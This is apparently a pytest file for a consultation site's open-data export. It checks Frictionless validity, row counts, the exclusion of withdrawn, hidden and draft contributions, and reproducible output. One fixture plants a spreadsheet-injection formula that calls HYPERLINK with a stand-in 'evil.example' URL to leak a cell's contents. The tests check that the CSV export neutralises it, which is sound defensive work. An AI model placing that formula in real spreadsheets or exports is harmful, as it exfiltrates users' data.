"""Open data packages of the examples: valid for Frictionless (CLI and Python API), complete,
free of withdrawn and hidden texts, safe to open in a spreadsheet, and byte-for-byte reproducible.

The bundled processes are copied and given a few planted contributions: one whose text and
organisation are spreadsheet formulas, a withdrawn and a hidden one with an answer and an author,
and a draft.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
import sys
from pathlib import Path

import frictionless
import jinja2
import pytest
from site_builds import REFERENCE_DAY

from greffier import paths
from greffier.export.opendata import (
    DATAPACKAGE,
    TABLES,
    Column,
    Table,
    open_data_files,
    package_files,
    table_csv,
)
from greffier.i18n.translator import Translator
from greffier.load import load_corpus
from greffier.models import Corpus

REPO = Path(__file__).resolve().parents[1]
SITE_URL = "https://greffier.example.org/"
TRAM = "tramway-ligne-b"
FORMULA = '=HYPERLINK("https://evil.example/?d="&A1;"Cliquez ici")'
QUOTED_FORMULA = FORMULA.replace('"', '\\"')
SECRETS = (
    "Texte retiré planté",
    "Texte masqué planté",
    "Réponse à une contribution retirée",
    "Zébulon Planté",
    "Brouillon planté",
)

PLANTED = {
    "c-9001.md": f"""---
received: 2026-11-20T10:00:00+01:00
channel: online
organisation: "{QUOTED_FORMULA}"
---
{FORMULA}
""",
    "c-9002.md": """---
received: 2026-11-21
channel: paper
author: Zébulon Planté
themes: [trace]
withdrawn: 2026-11-22
answer:
  date: 2026-11-23
  by: Mission tramway B
  text: Réponse à une contribution retirée.
disposition:
  status: not-retained
  reason: Texte retiré planté aussi dans le motif.
---
Texte retiré planté.
""",
    "c-9003.md": """---
received: 2026-11-21T09:00:00+01:00
channel: online
author: Zébulon Planté
parent: c-0001
moderation:
  status: hidden
  reason: Hors charte.
---
Texte masqué planté.
""",
    "c-9004.md": """---
received: 2026-11-22T09:00:00+01:00
channel: online
draft: true
---
Brouillon planté.
""",
}


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> Corpus:
    root = tmp_path_factory.mktemp("opendata-corpus")
    shutil.copytree(REPO / "processes", root / "processes")
    for name, text in PLANTED.items():
        (root / "processes" / TRAM / "contributions" / name).write_text(text, encoding="utf-8")
    corpus, diagnostics = load_corpus(root, reference=REFERENCE_DAY)
    assert not diagnostics.errors, [str(d) for d in diagnostics.errors]
    return corpus


def _files(corpus: Corpus, drafts: bool = False) -> dict[str, bytes]:
    files: dict[str, bytes] = {}
    for src_uri, piece in open_data_files(
        corpus, site_url=SITE_URL, drafts=drafts, today=REFERENCE_DAY
    ):
        files[src_uri] = files.get(src_uri, b"") + piece
    return files


def _sizes(files: dict[str, bytes]) -> dict[str, int]:
    return {src_uri: len(data) for src_uri, data in files.items()}


@pytest.fixture(scope="module")
def files(corpus: Corpus) -> dict[str, bytes]:
    return _files(corpus)


@pytest.fixture(scope="module")
def written(files: dict[str, bytes], tmp_path_factory: pytest.TempPathFactory) -> Path:
    site = tmp_path_factory.mktemp("opendata-site")
    for src_uri, data in files.items():
        target = site / src_uri
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
    return site


def _packages(corpus: Corpus) -> list[str]:
    return [paths.open_data(None, DATAPACKAGE)] + [
        paths.open_data(p.slug, DATAPACKAGE) for p in corpus.processes if not p.data.draft
    ]


def _rows(files: dict[str, bytes], slug: str | None, table: str) -> list[dict[str, str]]:
    text = files[paths.open_data(slug, f"{table}.csv")].decode("utf-8")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_every_package_is_valid_for_the_frictionless_cli(corpus: Corpus, written: Path) -> None:
    cli = Path(sys.executable).with_name("frictionless")
    command = [str(cli)] if cli.exists() else [sys.executable, "-m", "frictionless"]
    for package in _packages(corpus):
        run = subprocess.run(
            [*command, "validate", str(written / package)], capture_output=True, text=True
        )
        assert run.returncode == 0, run.stdout + run.stderr


def test_every_package_is_valid_for_the_frictionless_api(corpus: Corpus, written: Path) -> None:
    for package in _packages(corpus):
        report = frictionless.validate(str(written / package))
        assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
        # Every table was read, foreign keys included: an empty report would prove nothing.
        assert [task.name for task in report.tasks] == [table.name for table in TABLES]


def test_rows_match_the_published_corpus(corpus: Corpus, files: dict[str, bytes]) -> None:
    processes = [p for p in corpus.processes if not p.data.draft]
    contributions = [(p.slug, c) for p in processes for c in p.contributions if not c.data.draft]
    expected = {
        "processes": len(processes),
        "meetings": sum(len([m for m in p.meetings if not m.data.draft]) for p in processes),
        "documents": sum(len([d for d in p.documents if not d.data.draft]) for p in processes),
        "contributions": len(contributions),
        "answers": len(
            [
                c
                for _, c in contributions
                if c.data.answer and not c.data.withdrawn and not c.data.moderation
            ]
        ),
        "commitments": sum(len([c for c in p.commitments if not c.draft]) for p in processes),
    }
    for table, count in expected.items():
        assert len(_rows(files, None, table)) == count, table
        per_process = [len(_rows(files, p.slug, table)) for p in processes]
        assert sum(per_process) == count, table
    states = {
        (row["process"], row["id"]): row["state"] for row in _rows(files, None, "contributions")
    }
    assert states[(TRAM, "c-9002")] == "withdrawn"
    assert states[(TRAM, "c-9003")] == "hidden"
    assert states[(TRAM, "c-9001")] == "published"
    assert (TRAM, "c-9004") not in states


def test_the_site_tables_are_the_process_tables_one_after_the_other(
    corpus: Corpus, files: dict[str, bytes]
) -> None:
    """Keys start with the process: the site's sorted rows are each process's, in slug order
    (the site's files are made of the processes' files, never of rows held in memory)."""
    slugs = sorted(p.slug for p in corpus.processes if not p.data.draft)
    assert len(slugs) > 1
    for table in TABLES:
        site = _rows(files, None, table.name)
        assert site == [row for slug in slugs for row in _rows(files, slug, table.name)]
        assert [row["process"] for row in site] == sorted(row["process"] for row in site)

        def records(slug: str | None, name: str = table.name) -> list[dict[str, object]]:
            loaded: list[dict[str, object]] = json.loads(
                files[paths.open_data(slug, f"{name}.json")]
            )
            return loaded

        assert records(None) == [record for slug in slugs for record in records(slug)]


def test_withdrawn_and_hidden_texts_appear_in_no_file(files: dict[str, bytes]) -> None:
    for src_uri, data in files.items():
        text = data.decode("utf-8")
        for secret in SECRETS:
            assert secret not in text, (secret, src_uri)
    hidden = {row["id"]: row for row in _rows(files, TRAM, "contributions")}["c-9003"]
    assert hidden["moderation_reason"] == "Hors charte."
    assert hidden["parent"] == "c-0001"


def test_drafts_only_in_a_preview(corpus: Corpus) -> None:
    preview = _files(corpus, drafts=True)
    ids = [row["id"] for row in _rows(preview, TRAM, "contributions")]
    assert "c-9004" in ids
    assert "Brouillon planté" in preview[paths.open_data(TRAM, "contributions.json")].decode()


def test_formulas_are_neutralised_in_csv_and_intact_in_json(files: dict[str, bytes]) -> None:
    row = {row["id"]: row for row in _rows(files, TRAM, "contributions")}["c-9001"]
    assert row["text"] == "'" + FORMULA
    assert row["organisation"] == "'" + FORMULA
    records = json.loads(files[paths.open_data(TRAM, "contributions.json")])
    record = next(r for r in records if r["id"] == "c-9001")
    assert record["text"] == FORMULA
    assert record["organisation"] == FORMULA


def test_numbers_typed_as_numbers_keep_their_sign() -> None:
    table = Table(
        "t",
        "T",
        "",
        (Column("n", "integer", ""), Column("s", "string", "")),
        ("n",),
    )
    data = table_csv(table, [{"n": -3, "s": "-3"}, {"n": 4, "s": "@x"}, {"n": 5, "s": "\tx"}])
    assert data == b"n,s\n-3,'-3\n4,'@x\n5,'\tx\n"


def test_two_calls_give_the_same_bytes(corpus: Corpus, files: dict[str, bytes]) -> None:
    again = _files(corpus)
    assert again == files
    for data in files.values():
        assert b"\r" not in data
        data.decode("utf-8")
    created = json.loads(files[paths.open_data(None, DATAPACKAGE)])["created"]
    assert created == REFERENCE_DAY.isoformat().replace("+00:00", "Z")


def test_json_has_the_rows_and_columns_of_csv(files: dict[str, bytes]) -> None:
    for table in TABLES:
        records = json.loads(files[paths.open_data(None, f"{table.name}.json")])
        rows = _rows(files, None, table.name)
        assert len(records) == len(rows), table.name
        for record in records:
            assert list(record) == [column.name for column in table.columns]


def test_unchecked_references_resolve_within_their_process(files: dict[str, bytes]) -> None:
    """A contribution's meeting and parent and a document's `supersedes` may be empty, so they
    are not declared foreign keys: they must still name published items of the same process."""
    keys = {
        table: {(row["process"], row["id"]) for row in _rows(files, None, table)}
        for table in ("meetings", "contributions", "documents")
    }
    references = [
        ("contributions", "meeting", "meetings"),
        ("contributions", "parent", "contributions"),
        ("documents", "supersedes", "documents"),
    ]
    used = 0
    for table, column, target in references:
        for row in _rows(files, None, table):
            if row[column]:
                used += 1
                assert (row["process"], row[column]) in keys[target], (table, row["id"])
    assert used


def test_licences_come_from_process_yml(corpus: Corpus, files: dict[str, bytes]) -> None:
    tram = json.loads(files[paths.open_data(TRAM, DATAPACKAGE)])
    assert [licence["name"] for licence in tram["licenses"]] == ["etalab-2.0", "CC-BY-SA-4.0"]
    site = json.loads(files[paths.open_data(None, DATAPACKAGE)])
    for process in corpus.processes:
        assert f"- {process.slug}: Licence: " in site["description"]
    rows = {row["process"]: row for row in _rows(files, None, "processes")}
    assert rows[TRAM]["licence"] == corpus.process(TRAM).data.licence


def test_the_downloads_listing_gives_every_file_with_its_size(files: dict[str, bytes]) -> None:
    listing = package_files(_sizes(files), TRAM)
    entries = [listing.descriptor] + [f for table in listing.tables for f in table[1:]]
    packages = [src_uri for src_uri in files if src_uri.endswith(DATAPACKAGE)]
    assert len(entries) == len(set(entries)) == len(files) // len(packages)
    for entry in entries:
        assert entry.size == len(files[entry.src_uri])
        assert entry.src_uri.startswith(f"{TRAM}/donnees/")
    assert [table.csv.src_uri.rsplit("/", 1)[1] for table in listing.tables] == [
        f"{table.name}.csv" for table in TABLES
    ]


@pytest.mark.parametrize("language", ["fr", "en"])
def test_the_partial_lists_every_file_in_a_table(files: dict[str, bytes], language: str) -> None:
    environment = jinja2.Environment(
        loader=jinja2.FileSystemLoader(REPO / "themes" / "greffier"),
        autoescape=True,
        undefined=jinja2.StrictUndefined,
    )
    translator = Translator(language)
    environment.globals |= {"_": translator, "tr": translator, "greffier_paths": paths}
    environment.filters["link"] = lambda src_uri: f"/{src_uri}"
    template = environment.get_template("greffier/partials/open-data.html")
    listing = package_files(_sizes(files), TRAM)
    html = template.render(package=listing)
    for entry in [listing.descriptor, *(f for t in listing.tables for f in (t.csv, t.json))]:
        assert f'href="/{entry.src_uri}"' in html
    assert html.count('<th scope="row">') == len(TABLES)
    contributions = next(t for t in listing.tables if t.name == "contributions")
    assert translator.size(contributions.csv.size) in html
    assert 'href="/donnees/datapackage.json"' in html
